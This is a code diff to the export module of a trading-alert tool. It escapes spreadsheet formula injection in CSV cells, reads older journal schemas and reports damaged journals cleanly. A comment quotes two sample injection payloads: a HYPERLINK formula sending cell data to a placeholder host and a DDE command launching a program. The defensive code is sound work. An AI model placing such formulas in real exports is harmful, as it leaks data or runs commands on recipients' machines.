@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import csv
 import json
+import re
 import sqlite3
 from collections.abc import Iterable, Iterator
 from datetime import UTC, datetime
@@ -52,6 +53,27 @@ ALERT_FIELDS = (
 )
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula: an alert's text
+# (`=HYPERLINK("http://evil/?"&A1, "click")`, `=cmd|' /c calc'!A1`) would act when the
+# trader opens the export. OWASP's advice: start such a cell with an apostrophe.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# Decided by the cell's content, not by its column: a cell that is a plain number in
+# ASCII digits (a P&L of -12.5, a +3 adjustment) stays a number the sheet can add up;
+# any other text starting with a formula character is escaped, in whatever column.
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """The cell as a spreadsheet shows it without running it (CSV only; JSONL is exact)."""
+    if (
+        isinstance(value, str)
+        and value.startswith(_FORMULA_STARTS)
+        and not _PLAIN_NUMBER.fullmatch(value)
+    ):
+        return "'" + value
+    return value
+
+
 class ExportError(Exception):
     """The journal cannot be read; the message says why."""
 
@@ -69,8 +91,10 @@ def open_readonly(path: Path) -> sqlite3.Connection:
         conn = connect(path, readonly=True)
         version = schema_version(conn)
     except sqlite3.Error as exc:
-        raise ExportError(f"cannot read the journal {path}: {exc}") from exc
-    if version != SCHEMA_VERSION:
+        raise ExportError(_damaged(path, exc)) from None
+    # An older journal reads as it is: no migration since v1 changed what export reads
+    # (v2 added alerts.mode, v3 the signed_bodies table).
+    if not 1 <= version <= SCHEMA_VERSION:
         conn.close()
         raise ExportError(
             f"the journal {path} has schema {version}, this tvdesk reads {SCHEMA_VERSION}: "
@@ -85,10 +109,10 @@ def records(path: Path) -> Iterator[dict[str, Any]]:
     The journal is opened here, not at the first ``next()``: a missing or unreadable
     journal fails before the caller has written anything.
     """
-    return _records(open_readonly(path))
+    return _records(path, open_readonly(path))
 
 
-def _records(conn: sqlite3.Connection) -> Iterator[dict[str, Any]]:
+def _records(path: Path, conn: sqlite3.Connection) -> Iterator[dict[str, Any]]:
     try:
         orders: dict[str, list[dict[str, Any]]] = {}
         for row in conn.execute("SELECT * FROM orders ORDER BY created_at, rowid"):
@@ -97,8 +121,19 @@ def _records(conn: sqlite3.Connection) -> Iterator[dict[str, Any]]:
             )
         for row in conn.execute("SELECT * FROM alerts ORDER BY seq"):
             yield _alert_record(row, orders.get(row["alert_id"], []))
+    # A damaged page, a missing table or column, a mangled JSON cell: found only while
+    # reading, and said in one sentence, never as a traceback.
+    except (sqlite3.Error, ValueError, TypeError, IndexError, OverflowError, OSError) as exc:
+        raise ExportError(_damaged(path, exc)) from None
     finally:
         conn.close()
+
+
+def _damaged(path: Path, exc: Exception) -> str:
+    return (
+        f"cannot read the journal {path} ({exc}): it is damaged or not a tvdesk journal. "
+        "Restore it from a backup, or move it aside and tvdesk starts a new one"
+    )
 
 
 def _alert_record(row: sqlite3.Row, orders: list[dict[str, Any]]) -> dict[str, Any]:
@@ -155,7 +190,7 @@ def write_csv(rows: Iterable[dict[str, Any]], out: TextIO) -> int:
         for order in record["orders"] or [{}]:
             row = dict(base)
             row.update({f"order.{k}": _cell(order.get(k)) for k in ORDER_FIELDS})
-            writer.writerow(row)
+            writer.writerow({key: spreadsheet_safe(value) for key, value in row.items()})
         n += 1
     return n
 
